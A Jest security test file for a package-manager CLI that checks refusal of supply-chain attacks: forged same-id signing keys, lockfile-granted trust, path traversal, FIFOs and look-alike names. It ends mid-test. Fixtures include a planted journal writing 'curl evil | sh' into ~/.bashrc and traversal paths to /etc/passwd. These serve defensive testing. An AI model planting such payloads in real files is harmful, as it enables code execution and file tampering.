// Trust, second round (issue 27): a key is its whole public key, never its 8-byte id, and a
// lockfile never grants trust. Each attack runs through the CLI as an attacker would set it up.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import { createServer as createNetServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { buildTgz } from '../../../tools/testing/tar-builder.mjs';
import { writeV1Registry } from '../../../tools/testing/v1-registry.mjs';
import { forgeKeyWithIdOf } from './helpers/forge-key.js';
import { compactedCatalog, copyOfSampleRegistry, freshHome, runGgen } from './helpers/run-ggen.js';

function writePack(dir: string, name: string, version: string): string {
  mkdirSync(join(dir, 'templates'), { recursive: true });
  writeFileSync(
    join(dir, 'gpack.yaml'),
    `name: "${name}"\nversion: ${version}\ndescription: A signed pack for tests\nauthor: Ada\nlicense: MIT\n`,
  );
  writeFileSync(join(dir, 'templates', 'hello.tmpl'), `hello from ${name} ${version}\n`);
  return dir;
}

async function keygen(home: string, name: string): Promise<{ path: string; publicKey: string; keyId: string }> {
  const path = join(home, `${name}.key`);
  const run = await runGgen(['marketplace', 'keygen', '--no-password', '--output', path, '--json'], { home });
  expect(run.code).toBe(0);
  return { path, ...(JSON.parse(run.stdout) as { publicKey: string; keyId: string }) };
}

async function publish(
  home: string,
  registry: string,
  key: string,
  name: string,
  version: string,
): Promise<{ code: number; stderr: string }> {
  return runGgen(
    [
      'marketplace',
      'publish',
      writePack(join(home, `${name}-${version}-${Math.random()}`), name, version),
      '--sign',
      '--key',
      key,
      '--registry',
      registry,
    ],
    { home },
  );
}

describe('a key is its whole public key (findings 1, 3)', () => {
  it('refuses a pack signed by another key that carries a trusted key id, under --verify-signature and require_signatures', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const mallory = forgeKeyWithIdOf(alice.publicKey, join(home, 'mallory.key'));
    expect(mallory.publicKey).not.toBe(alice.publicKey);
    const registry = copyOfSampleRegistry();
    expect((await publish(home, registry, mallory.secretKeyPath, 'evil-pack', '1.0.0')).code).toBe(0);

    const user = freshHome();
    const env = { GGEN_MARKETPLACE_TRUSTED_KEYS: alice.publicKey };
    const flagged = await runGgen(
      ['marketplace', 'install', 'evil-pack', '--registry', registry, '--backend', 'v2', '--verify-signature'],
      { home: user, env },
    );
    expect(flagged.stderr).toMatch(
      /^error GGEN_E_SIGNATURE_UNTRUSTED: evil-pack@1\.0\.0 is signed by key [0-9A-F]{16}, which is not an owner of evil-pack|^error GGEN_E_SIGNATURE_UNTRUSTED: /m,
    );
    expect(flagged.code).toBe(6);
    mkdirSync(join(user, '.config', 'ggen'), { recursive: true });
    writeFileSync(
      join(user, '.config', 'ggen', 'config.yaml'),
      `marketplace:\n  require_signatures: true\n  trusted_keys: ['${alice.publicKey}']\n`,
    );
    const required = await runGgen(['marketplace', 'install', 'evil-pack', '--registry', registry, '--backend', 'v2'], {
      home: user,
    });
    expect(required.stderr).toMatch(/^error GGEN_E_SIGNATURE_UNTRUSTED: /m);
    expect(required.code).toBe(6);
    expect(existsSync(join(user, '.ggen', 'packages', 'evil-pack'))).toBe(false);
    expect(existsSync(join(user, '.ggen', 'ggen.lock'))).toBe(false);

    // The real key still installs its own pack: the check is the key, not a blanket refusal.
    expect((await publish(home, registry, alice.path, 'good-pack', '1.0.0')).code).toBe(0);
    const good = await runGgen(['marketplace', 'install', 'good-pack', '--registry', registry, '--backend', 'v2'], {
      home: user,
    });
    expect(good.stderr).not.toMatch(/error/);
    expect(good.code).toBe(0);
  });

  it('refuses an update to a chain restarted from a same-id key (key continuity by whole key)', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const registry = copyOfSampleRegistry();
    expect((await publish(home, registry, alice.path, 'pinned', '1.0.0')).code).toBe(0);
    const env = { GGEN_MARKETPLACE_TRUSTED_KEYS: alice.publicKey };
    const user = freshHome();
    expect(
      (
        await runGgen(['marketplace', 'install', 'pinned@^1.0.0', '--registry', registry, '--verify-signature'], {
          home: user,
          env,
        })
      ).code,
    ).toBe(0);
    const lockBefore = readFileSync(join(user, '.ggen', 'ggen.lock'), 'utf8');

    // A registry-storage attacker drops the statements and starts a new chain from a same-id key.
    rmSync(join(registry, 'keys', 'pinned.json'));
    const mallory = forgeKeyWithIdOf(alice.publicKey, join(home, 'mallory.key'));
    expect((await publish(home, registry, mallory.secretKeyPath, 'pinned', '1.1.0')).code).toBe(0);
    const update = await runGgen(
      ['marketplace', 'update', '--registry', registry, '--backend', 'v2', '--verify-signature'],
      { home: user, env },
    );
    expect(update.stderr).toMatch(
      /^error GGEN_E_OWNER_CHAIN_INVALID: The owner keys of pinned cannot be trusted: it was installed owned by [0-9A-F]{16}, and its key statements now start from other keys/m,
    );
    expect(update.code).toBe(6);
    expect(readFileSync(join(user, '.ggen', 'ggen.lock'), 'utf8')).toBe(lockBefore);
    expect(readFileSync(join(user, '.ggen', 'packages', 'pinned', 'templates', 'hello.tmpl'), 'utf8')).toBe(
      'hello from pinned 1.0.0\n',
    );
  });

  it('refuses a same-id key as the owner in the registry: publish, yank, dist-tag and deprecate', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const registry = copyOfSampleRegistry();
    expect((await publish(home, registry, alice.path, 'owned', '1.0.0')).code).toBe(0);
    expect(
      (
        await runGgen(
          ['marketplace', 'deprecate', 'owned', 'use owned-ng', '--registry', registry, '--key', alice.path],
          { home },
        )
      ).code,
    ).toBe(0);
    const mallory = forgeKeyWithIdOf(alice.publicKey, join(home, 'mallory.key'));
    const before = {
      catalog: readFileSync(join(registry, 'catalog.nq'), 'utf8'),
      index: readFileSync(join(registry, 'index.json'), 'utf8'),
    };
    const attempts = [
      [
        'publish',
        writePack(join(home, 'owned-2'), 'owned', '2.0.0'),
        '--sign',
        '--key',
        mallory.secretKeyPath,
        '--registry',
        registry,
      ],
      ['yank', 'owned@1.0.0', '--registry', registry, '--key', mallory.secretKeyPath],
      ['dist-tag', 'add', 'owned@1.0.0', 'beta', '--registry', registry, '--key', mallory.secretKeyPath],
      ['deprecate', 'owned', '', '--registry', registry, '--key', mallory.secretKeyPath],
    ];
    for (const args of attempts) {
      const run = await runGgen(['marketplace', ...args], { home });
      expect(run.stderr).toMatch(/^error GGEN_E_NOT_OWNER: Key [0-9A-F]{16} is not an owner of owned/m);
      expect(run.code).toBe(6);
    }
    expect(readFileSync(join(registry, 'catalog.nq'), 'utf8')).toBe(before.catalog);
    expect(readFileSync(join(registry, 'index.json'), 'utf8')).toBe(before.index);
  });

  it('refuses a small-order public key as a trusted key: any signature would verify with it', async () => {
    const home = freshHome();
    const identity = Buffer.concat([
      Buffer.from('Ed'),
      Buffer.alloc(8, 7),
      Buffer.from([1]),
      Buffer.alloc(31),
    ]).toString('base64');
    const run = await runGgen(['marketplace', 'install', 'agent-editor', '--backend', 'v2', '--verify-signature'], {
      home,
      env: { GGEN_MARKETPLACE_TRUSTED_KEYS: identity },
    });
    expect(run.stderr).toMatch(/^error GGEN_E_KEY_INVALID: Trusted key '.*' is not a minisign public key/m);
    expect(run.stderr).toContain('small-order point');
    expect(run.code).toBe(2);
  });
});

describe('a lockfile never grants trust (finding 6)', () => {
  it('installs nothing signed by a key that only a committed lockfile names as the owner', async () => {
    const attackerHome = freshHome();
    const mallory = await keygen(attackerHome, 'mallory');
    const registry = copyOfSampleRegistry();
    expect((await publish(attackerHome, registry, mallory.path, 'evil-pack', '1.0.0')).code).toBe(0);
    // The attacker installs it trusting their own key, and commits the lockfile that records them as owner.
    const project = mkdtempSync(join(tmpdir(), 'ggen-project-'));
    const attackerInstall = await runGgen(
      [
        'marketplace',
        'install',
        'evil-pack',
        '--registry',
        registry,
        '--backend',
        'v2',
        '--target',
        join(project, 'gpacks'),
        '--verify-signature',
      ],
      {
        home: attackerHome,
        env: { GGEN_MARKETPLACE_TRUSTED_KEYS: mallory.publicKey },
      },
    );
    expect(attackerInstall.code).toBe(0);
    expect(JSON.parse(readFileSync(join(project, 'ggen.lock'), 'utf8')).packages['evil-pack'].signature.owners).toEqual(
      [mallory.publicKey],
    );
    rmSync(join(project, 'gpacks'), { recursive: true });

    // The victim requires signatures and trusts nobody: the lockfile's owners add no trust.
    const victim = freshHome();
    mkdirSync(join(victim, '.config', 'ggen'), { recursive: true });
    writeFileSync(join(victim, '.config', 'ggen', 'config.yaml'), 'marketplace:\n  require_signatures: true\n');
    for (const args of [['install'], ['install', '--frozen-lockfile'], ['install', 'evil-pack']]) {
      const run = await runGgen(
        ['marketplace', ...args, '--registry', registry, '--backend', 'v2', '--target', join(project, 'gpacks')],
        { home: victim },
      );
      expect(run.stderr).toMatch(
        /^error GGEN_E_SIGNATURE_UNTRUSTED: evil-pack@1\.0\.0 is signed by key [0-9A-F]{16}, which is not trusted/m,
      );
      expect(run.code).toBe(6);
      expect(existsSync(join(project, 'gpacks', 'evil-pack'))).toBe(false);
    }
  });
});

describe('files in a project are data from a stranger (findings 2, 4, 5, 16)', () => {
  it('refuses a planted install journal in every command that recovers, and writes nothing it names', async () => {
    const home = freshHome();
    const bashrc = join(home, '.bashrc');
    writeFileSync(bashrc, '# mine\n');
    const project = mkdtempSync(join(tmpdir(), 'ggen-cloned-'));
    const keep = join(project, 'keep.txt');
    writeFileSync(keep, 'keep me');
    mkdirSync(join(project, 'gpacks', '.ggen-txn', 'new'), { recursive: true });
    const journal = { version: 1, lockfile: bashrc, lockfileContent: 'curl evil | sh\n', install: [], remove: [] };
    writeFileSync(join(project, 'gpacks', '.ggen-txn', 'journal.json'), JSON.stringify(journal));
    for (const args of [['list'], ['install', 'agent-editor'], ['update'], ['remove', 'agent-editor']]) {
      const run = await runGgen(['marketplace', ...args, '--target', './gpacks'], { home, cwd: project });
      expect(run.stderr).toMatch(
        /^error GGEN_E_FOREIGN_FILE: .*journal\.json is an install journal that this ggen did not write; refusing to follow it$/m,
      );
      expect(run.code).toBe(10);
    }
    expect(readFileSync(bashrc, 'utf8')).toBe('# mine\n');
    expect(readFileSync(keep, 'utf8')).toBe('keep me');
    expect(existsSync(join(project, 'gpacks', 'agent-editor'))).toBe(false);
  });

  it('never prunes through a linked packages directory, nor a directory whose files ggen did not install', async () => {
    const home = freshHome();
    const parent = mkdtempSync(join(tmpdir(), 'ggen-parent-'));
    const work = join(parent, 'work');
    mkdirSync(work);
    writeFileSync(join(work, 'thesis.tex'), 'years of work');
    const project = join(parent, 'project');
    mkdirSync(project);
    const locked = {
      version: '1.0.0',
      resolved: 'v2:archives/work-1.0.0.tgz',
      integrity: 'sha512-AAAA',
      dependencies: {},
      backend: 'v2',
      contentHash: 'sha256-0000',
    };
    writeFileSync(
      join(project, 'ggen.lock'),
      JSON.stringify({ lockfileVersion: 1, requested: {}, packages: { work: locked } }),
    );
    // A committed link: gpacks -> .. (the project's parent, where the user's work is).
    symlinkSync('..', join(project, 'gpacks'));
    const linked = await runGgen(['marketplace', 'install', 'agent-editor', '--target', './gpacks'], {
      home,
      cwd: project,
    });
    expect(linked.stderr).toMatch(
      /^error GGEN_E_UNSAFE_PERMISSIONS: .*gpacks is a symbolic link; ggen installs into and removes from real directories only$/m,
    );
    expect(linked.code).toBe(10);
    expect(readFileSync(join(work, 'thesis.tex'), 'utf8')).toBe('years of work');

    // A real packages directory holding a directory of the locked name that ggen never wrote: kept, and said.
    rmSync(join(project, 'gpacks'));
    mkdirSync(join(project, 'gpacks', 'work'), { recursive: true });
    writeFileSync(join(project, 'gpacks', 'work', 'notes.md'), 'mine');
    const pruned = await runGgen(['marketplace', 'install', 'agent-editor', '--target', './gpacks'], {
      home,
      cwd: project,
    });
    expect(pruned.stderr).toContain(
      `kept ${join(project, 'gpacks', 'work')}: its files are not what ggen installed for work`,
    );
    expect(pruned.code).toBe(0);
    expect(readFileSync(join(project, 'gpacks', 'work', 'notes.md'), 'utf8')).toBe('mine');
    expect(JSON.parse(readFileSync(join(project, 'ggen.lock'), 'utf8')).packages.work).toBeUndefined();
    expect(readFileSync(join(work, 'thesis.tex'), 'utf8')).toBe('years of work');
  });

  it('ignores a project ggen.yaml that moves state, telemetry or the packages directory out of the project', async () => {
    const home = freshHome();
    const project = mkdtempSync(join(tmpdir(), 'ggen-cloned-'));
    const yaml = join(project, 'ggen.yaml');
    writeFileSync(
      yaml,
      'marketplace:\n  state_dir: ./state\n  packages_dir: ..\n  pushgateway_url: http://127.0.0.1:9/\n  lockfile: ./ggen.lock\n',
    );
    const run = await runGgen(['marketplace', 'config', 'show'], { home, cwd: project });
    expect(run.code).toBe(0);
    expect(run.stderr).toContain(
      `note: ${yaml} sets state_dir; ignored, only your own config or the environment may set it`,
    );
    expect(run.stderr).toContain(
      `note: ${yaml} sets pushgateway_url; ignored, only your own config or the environment may set it`,
    );
    expect(run.stderr).toContain(
      `note: ${yaml} sets packages_dir: ${join(project, '..')}; ignored, a project file may only name a location inside its project (${project})`,
    );
    const shown = (
      JSON.parse((await runGgen(['marketplace', 'config', 'show', '--json'], { home, cwd: project })).stdout) as {
        values: Record<string, { value: unknown }>;
      }
    ).values;
    expect(shown.state_dir?.value).toBe(join(home, '.ggen'));
    // Refused, the packages directory is the project's own default.
    expect(shown.packages_dir?.value).toBe(join(project, 'gpacks'));
    expect(shown.pushgateway_url).toBeUndefined();
    expect(shown.lockfile?.value).toBe(join(project, 'ggen.lock'));
    // A link inside the project that leads out of it is outside too.
    symlinkSync(home, join(project, 'out'));
    writeFileSync(yaml, 'marketplace:\n  cache_dir: ./out/cache\n');
    const linked = await runGgen(['marketplace', 'config', 'show'], { home, cwd: project });
    expect(linked.stderr).toContain(
      `note: ${yaml} sets cache_dir: ${join(project, 'out', 'cache')}; ignored, a project file may only name a location inside its project`,
    );
  });
});

describe('special files are refused before a byte is read (findings 10, 11)', () => {
  it('refuses FIFOs and devices as registry files, archives, lockfiles and project config, at once', async () => {
    const home = freshHome();
    const mkfifo = (path: string): void => {
      execFileSync('mkfifo', [path]);
    };
    // A v1 registry whose index.json is a FIFO: no writer ever comes.
    const v1 = mkdtempSync(join(tmpdir(), 'ggen-fifo-registry-'));
    mkfifo(join(v1, 'index.json'));
    const search = await runGgen(['marketplace', 'search', 'agent', '--backend', 'v1', '--registry', v1], { home });
    expect(search.stderr).toMatch(
      /^error GGEN_E_UNSAFE_PERMISSIONS: .*index\.json is not a regular file \(a FIFO\); refusing to read it$/m,
    );
    expect(search.code).toBe(10);

    // A v2 archive that is /dev/zero: refused, not read until memory runs out.
    const registry = copyOfSampleRegistry();
    const archive = join(registry, 'archives', 'agent-editor-1.0.0.tgz');
    expect(existsSync(archive)).toBe(true);
    rmSync(archive);
    symlinkSync('/dev/zero', archive);
    const install = await runGgen(
      [
        'marketplace',
        'install',
        'agent-editor',
        '--backend',
        'v2',
        '--registry',
        registry,
        '--target',
        join(home, 'gpacks'),
      ],
      { home },
    );
    expect(install.stderr).toMatch(
      /^error GGEN_E_UNSAFE_PERMISSIONS: .*agent-editor-1\.0\.0\.tgz is not a regular file \(a character device\); refusing to read it$/m,
    );
    expect(install.code).toBe(10);
    expect(existsSync(join(home, 'gpacks', 'agent-editor'))).toBe(false);

    // A cloned project whose ggen.lock, then whose ggen.yaml, is a FIFO.
    const project = mkdtempSync(join(tmpdir(), 'ggen-cloned-'));
    mkfifo(join(project, 'ggen.lock'));
    const list = await runGgen(['marketplace', 'list', '--target', './gpacks'], { home, cwd: project });
    expect(list.stderr).toMatch(/ggen\.lock is not a regular file \(a FIFO\)/);
    expect(list.code).not.toBe(0);
    mkfifo(join(project, 'ggen.yaml'));
    const config = await runGgen(['marketplace', 'config', 'show'], { home, cwd: project });
    expect(config.stderr).toMatch(/ggen\.yaml is not a regular file \(a FIFO\)/);
    expect(config.code).not.toBe(0);
  });
});

describe("a lockfile's resolved stays inside its registry (finding 9)", () => {
  it('refuses ../, absolute paths and another host, and sends that host nothing', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const project = mkdtempSync(join(tmpdir(), 'ggen-project-'));
    const target = join(project, 'gpacks');
    expect(
      (
        await runGgen(
          ['marketplace', 'install', 'agent-editor', '--backend', 'v2', '--registry', registry, '--target', target],
          { home },
        )
      ).code,
    ).toBe(0);
    const lockPath = join(project, 'ggen.lock');
    const lock = JSON.parse(readFileSync(lockPath, 'utf8')) as { packages: Record<string, { resolved: string }> };
    expect(lock.packages['agent-editor']?.resolved).toBe('v2:archives/agent-editor-1.0.0.tgz');
    let requests = 0;
    const other = createServer((_request, response) => {
      requests += 1;
      response.end('not an archive');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const port = (other.address() as AddressInfo).port;
    writeFileSync(join(project, 'outside.tgz'), readFileSync(join(registry, 'archives', 'agent-editor-1.0.0.tgz')));
    try {
      for (const resolved of [
        'v2:../outside.tgz',
        'v2:archives/../../outside.tgz',
        join(project, 'outside.tgz'),
        `http://127.0.0.1:${port}/agent-editor-1.0.0.tgz`,
        'v2:/etc/passwd',
      ]) {
        rmSync(target, { recursive: true, force: true });
        const entry = lock.packages['agent-editor'];
        if (entry !== undefined) entry.resolved = resolved;
        writeFileSync(lockPath, JSON.stringify(lock));
        const run = await runGgen(
          [
            'marketplace',
            'install',
            '--frozen-lockfile',
            '--backend',
            'v2',
            '--registry',
            registry,
            '--target',
            target,
          ],
          { home },
        );
        expect(run.stderr).toContain(
          `error GGEN_E_LOCKFILE_INVALID: ggen.lock entry agent-editor resolves outside its registry: ${resolved}`,
        );
        expect(run.code).toBe(7);
        expect(existsSync(join(target, 'agent-editor'))).toBe(false);
      }
    } finally {
      other.close();
    }
    expect(requests).toBe(0);
  });
});

describe('a tag is the registry’s word, not the user’s (finding 7, and a tag on a yanked version)', () => {
  it('refuses a tag moved below the locked version as a downgrade, and a tag on a yanked version', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    for (const version of ['1.0.0', '1.1.0'])
      expect(
        (
          await runGgen(
            [
              'marketplace',
              'publish',
              writePack(join(home, `p-${version}`), 'tagged', version),
              '--registry',
              registry,
            ],
            { home },
          )
        ).code,
      ).toBe(0);
    expect(
      (await runGgen(['marketplace', 'install', 'tagged@latest', '--backend', 'v2', '--registry', registry], { home }))
        .code,
    ).toBe(0);
    expect(JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')).packages.tagged.version).toBe('1.1.0');
    expect(
      (await runGgen(['marketplace', 'dist-tag', 'add', 'tagged@1.0.0', 'latest', '--registry', registry], { home }))
        .code,
    ).toBe(0);
    const moved = await runGgen(
      ['marketplace', 'install', 'tagged@latest', '--backend', 'v2', '--registry', registry],
      { home },
    );
    expect(moved.stderr).toContain('error GGEN_E_DOWNGRADE: tagged would go from 1.1.0 (locked) back to 1.0.0');
    expect(moved.code).toBe(5);
    expect(JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')).packages.tagged.version).toBe('1.1.0');
    // Naming the version is the user's own choice, as before.
    expect(
      (await runGgen(['marketplace', 'install', 'tagged@1.0.0', '--backend', 'v2', '--registry', registry], { home }))
        .code,
    ).toBe(0);

    expect((await runGgen(['marketplace', 'yank', 'tagged@1.0.0', '--registry', registry], { home })).code).toBe(0);
    const yanked = await runGgen(
      [
        'marketplace',
        'install',
        'tagged@latest',
        '--backend',
        'v2',
        '--registry',
        registry,
        '--target',
        join(home, 'other'),
      ],
      { home },
    );
    expect(yanked.stderr).toContain('error GGEN_E_VERSION_NOT_FOUND: tagged@latest points at 1.0.0, which is yanked');
    expect(yanked.code).toBe(4);
  });
});

describe('dependencies come from the signed manifest, not the catalog (finding 13)', () => {
  it('refuses a catalog that swaps a dependency for another pack, installing nothing', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const catalogPath = join(registry, 'catalog.nq');
    const catalog = readFileSync(catalogPath, 'utf8');
    expect(catalog.includes('#dependencyName> "agent-memory-forge"')).toBe(true);
    writeFileSync(
      catalogPath,
      catalog.replaceAll('#dependencyName> "agent-memory-forge"', '#dependencyName> "agent-editor"'),
    );
    const target = join(home, 'gpacks');
    const run = await runGgen(
      ['marketplace', 'install', 'agent-reasoning-mcp', '--backend', 'v2', '--registry', registry, '--target', target],
      { home },
    );
    // agent-reasoning-mcp and agent-context-crafter both depend on agent-memory-forge: whichever is checked first is refused.
    expect(run.stderr).toMatch(
      /^error GGEN_E_METADATA_MISMATCH: The registry lists agent-(reasoning-mcp|context-crafter)@1\.0\.0, but the archive's gpack\.yaml says dependencies .*agent-memory-forge@\* \(the registry lists .*agent-editor@\*\)$/m,
    );
    expect(run.code).toBe(6);
    expect(existsSync(join(target, 'agent-reasoning-mcp'))).toBe(false);
    expect(existsSync(join(home, 'ggen.lock'))).toBe(false);
  });
});

describe('lifecycle state of an owned pack is what its owners signed (finding 8)', () => {
  it('keeps a signed yank and deprecation that the catalog lost, and refuses a forged lifecycle log', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const registry = copyOfSampleRegistry();
    for (const version of ['1.0.0', '1.1.0'])
      expect((await publish(home, registry, alice.path, 'withdrawn', version)).code).toBe(0);
    expect(
      (await runGgen(['marketplace', 'yank', 'withdrawn@1.1.0', '--registry', registry, '--key', alice.path], { home }))
        .code,
    ).toBe(0);
    expect(
      (
        await runGgen(
          [
            'marketplace',
            'deprecate',
            'withdrawn@1.0.0',
            'use withdrawn-ng',
            '--registry',
            registry,
            '--key',
            alice.path,
          ],
          { home },
        )
      ).code,
    ).toBe(0);
    const catalogPath = join(registry, 'catalog.nq');
    const signedCatalog = await compactedCatalog(registry);
    expect(signedCatalog).toContain('#yanked> "true"');
    // The registry's storage is rewritten: 1.1.0 un-yanked, the deprecation gone.
    const forged = signedCatalog
      .replaceAll('#yanked> "true"', '#yanked> "false"')
      .split('\n')
      .filter((line) => !line.includes('#deprecated>'))
      .join('\n');
    writeFileSync(
      catalogPath,
      forged.replace(
        /^(.*#quadCount> )"(\d+)"(.*)$/m,
        (_line, head: string, count: string, tail: string) =>
          `${head}"${Number(count) - (signedCatalog.split('\n').length - forged.split('\n').length)}"${tail}`,
      ),
    );
    const user = freshHome();
    const env = { GGEN_MARKETPLACE_TRUSTED_KEYS: alice.publicKey };
    const install = await runGgen(
      ['marketplace', 'install', 'withdrawn@^1.0.0', '--registry', registry, '--backend', 'v2', '--verify-signature'],
      { home: user, env },
    );
    expect(install.code).toBe(0);
    expect(install.stderr).toContain('warning: withdrawn@1.0.0 is deprecated: use withdrawn-ng');
    expect(JSON.parse(readFileSync(join(user, '.ggen', 'ggen.lock'), 'utf8')).packages.withdrawn.version).toBe('1.0.0');
    const info = JSON.parse(
      (
        await runGgen(['marketplace', 'info', 'withdrawn@1.0.0', '--registry', registry, '--backend', 'v2', '--json'], {
          home: user,
        })
      ).stdout,
    ) as {
      deprecated?: string;
    };
    expect(info.deprecated).toBe('use withdrawn-ng');

    // A lifecycle log with a statement no owner signed is refused, not skipped.
    const mallory = await keygen(home, 'mallory');
    const logPath = join(registry, 'lifecycle', 'withdrawn.json');
    const log = JSON.parse(readFileSync(logPath, 'utf8')) as { statements: string[] };
    const signWith = await runGgen(
      ['marketplace', 'yank', 'withdrawn@1.1.0', '--undo', '--registry', registry, '--key', mallory.path],
      { home },
    );
    expect(signWith.stderr).toMatch(/^error GGEN_E_NOT_OWNER: /m);
    // A registry writer appends a statement: Alice's statement text under a signature that is no owner's.
    const forgedSignature = Buffer.concat([Buffer.from('ED'), Buffer.alloc(72, 9)]).toString('base64');
    writeFileSync(
      logPath,
      JSON.stringify({
        statements: [
          ...log.statements,
          (log.statements[0] ?? '').replace(/^(untrusted comment: .*\n)[^\n]+/, `$1${forgedSignature}`),
        ],
      }),
    );
    const refused = await runGgen(
      [
        'marketplace',
        'install',
        'withdrawn@^1.0.0',
        '--registry',
        registry,
        '--backend',
        'v2',
        '--target',
        join(user, 'other'),
      ],
      { home: user, env },
    );
    expect(refused.stderr).toMatch(
      /^error GGEN_E_OWNER_CHAIN_INVALID: The lifecycle of withdrawn is not trustworthy: statement 2 /m,
    );
    expect(refused.code).toBe(6);
  });
});

describe('a scope speaks for its packages (findings 14, 15, and lifecycle inside an owned scope)', () => {
  it('says what a scope claim leaves out, and refuses a pack put into the scope before it was claimed', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const registry = copyOfSampleRegistry();
    const squat = await runGgen(
      ['marketplace', 'publish', writePack(join(home, 'squat'), '@acme/squat', '1.0.0'), '--registry', registry],
      { home },
    );
    expect(squat.code).toBe(0);
    const claim = await runGgen(
      [
        'marketplace',
        'publish',
        writePack(join(home, 'real'), '@acme/real', '1.0.0'),
        '--sign',
        '--key',
        alice.path,
        '--registry',
        registry,
      ],
      { home },
    );
    expect(claim.code).toBe(0);
    expect(claim.stdout).toContain(
      `warning: @acme is now owned by key ${alice.keyId}; it already held @acme/squat, published before the claim`,
    );
    const user = freshHome();
    const install = await runGgen(
      ['marketplace', 'install', '@acme/squat', '--registry', registry, '--backend', 'v2'],
      { home: user },
    );
    expect(install.stderr).toMatch(
      /^error GGEN_E_NOT_OWNER: @acme\/squat sits in the owned scope @acme, but no owner of @acme published it/m,
    );
    expect(install.code).toBe(6);
    expect(existsSync(join(user, '.ggen', 'packages', '@acme', 'squat'))).toBe(false);
    // Its lifecycle now needs a scope owner's key, though the pack has no owner of its own.
    const unsigned = await runGgen(['marketplace', 'deprecate', '@acme/squat', 'not ours', '--registry', registry], {
      home,
    });
    expect(unsigned.stderr).toMatch(/^error GGEN_E_SIGNATURE_MISSING: @acme\/squat is owned by signing keys/m);
    expect(
      (
        await runGgen(
          ['marketplace', 'deprecate', '@acme/squat', 'not ours', '--registry', registry, '--key', alice.path],
          { home },
        )
      ).code,
    ).toBe(0);
  });

  it('takes every power over the scope’s packages from a key revoked from the scope, and gives them to the scope owner', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const bob = await keygen(home, 'bob');
    const mallory = await keygen(home, 'mallory');
    const registry = copyOfSampleRegistry();
    expect((await publish(home, registry, alice.path, '@acme/kit', '1.0.0')).code).toBe(0);
    const scopeKeys = (action: string, key: string, signer: string): Promise<{ code: number; stderr: string }> =>
      runGgen(
        [
          'marketplace',
          'keys',
          action,
          '--scope',
          '@acme',
          '--public-key',
          key,
          '--key',
          signer,
          '--registry',
          registry,
        ],
        { home },
      );
    expect((await scopeKeys('add', bob.publicKey, alice.path)).code).toBe(0);
    expect((await publish(home, registry, bob.path, '@acme/bobs-kit', '1.0.0')).code).toBe(0);
    expect((await scopeKeys('revoke', bob.publicKey, alice.path)).code).toBe(0);

    const moveTag = await runGgen(
      ['marketplace', 'dist-tag', 'add', '@acme/bobs-kit@1.0.0', 'beta', '--registry', registry, '--key', bob.path],
      { home },
    );
    expect(moveTag.stderr).toMatch(/^error GGEN_E_NOT_OWNER: Key [0-9A-F]{16} is not an owner of @acme\/bobs-kit/m);
    const addKey = await runGgen(
      [
        'marketplace',
        'keys',
        'add',
        '--package',
        '@acme/bobs-kit',
        '--public-key',
        mallory.publicKey,
        '--key',
        bob.path,
        '--registry',
        registry,
      ],
      {
        home,
      },
    );
    expect(addKey.stderr).toMatch(/^error GGEN_E_NOT_OWNER: /m);
    expect((await publish(home, registry, bob.path, '@acme/bobs-kit', '1.1.0')).code).not.toBe(0);
    // The scope owner acts on it.
    const yank = await runGgen(
      ['marketplace', 'deprecate', '@acme/bobs-kit', 'moved to @acme/kit', '--registry', registry, '--key', alice.path],
      { home },
    );
    expect(yank.stderr).not.toMatch(/error/);
    expect(yank.code).toBe(0);
    // And a verifying client no longer takes Bob's signature for the scope's packages.
    const user = freshHome();
    const install = await runGgen(
      ['marketplace', 'install', '@acme/bobs-kit', '--registry', registry, '--backend', 'v2', '--verify-signature'],
      {
        home: user,
        env: { GGEN_MARKETPLACE_TRUSTED_KEYS: alice.publicKey },
      },
    );
    expect(install.stderr).toMatch(
      /^error GGEN_E_SIGNATURE_REVOKED: @acme\/bobs-kit@1\.0\.0 is signed by key [0-9A-F]{16}, which an owner of @acme\/bobs-kit revoked/m,
    );
    expect(install.code).toBe(6);
  });
});

describe('the low findings, each through the CLI', () => {
  it('refuses look-alike names and scopes from another publisher, in both formats', async () => {
    const home = freshHome();
    const alice = await keygen(home, 'alice');
    const mallory = await keygen(home, 'mallory');
    const registry = copyOfSampleRegistry();
    expect((await publish(home, registry, alice.path, 'web-toolkit', '1.0.0')).code).toBe(0);
    expect((await publish(home, registry, alice.path, '@acme/kit', '1.0.0')).code).toBe(0);
    const lookalike = await publish(home, registry, mallory.path, 'web_toolkit', '1.0.0');
    expect(lookalike.stderr).toMatch(
      /^error GGEN_E_NAME_TAKEN: web_toolkit reads as web-toolkit, which .* already has$/m,
    );
    expect(lookalike.code).toBe(5);
    const scope = await publish(home, registry, mallory.path, '@acme-/kit', '1.0.0');
    expect(scope.stderr).toMatch(
      /^error GGEN_E_NAME_TAKEN: @acme-\/kit reads as @acme(\/kit)?, which .* already has$/m,
    );
    // The owner may name a sibling as they like; an unsigned v1 publish may not.
    expect((await publish(home, registry, alice.path, 'web.toolkit', '1.0.0')).code).toBe(0);
    const v1 = await runGgen(
      [
        'marketplace',
        'publish',
        writePack(join(home, 'v1-other'), 'web-toolkit-two', '1.0.0'),
        '--registry',
        registry,
        '--backend',
        'v1',
      ],
      { home },
    );
    expect(v1.stderr).not.toMatch(/error/);
    expect(v1.code).toBe(0);
    const v1Clash = await runGgen(
      [
        'marketplace',
        'publish',
        writePack(join(home, 'v1-clash'), 'agent_editor', '1.0.0'),
        '--registry',
        registry,
        '--backend',
        'v1',
      ],
      { home },
    );
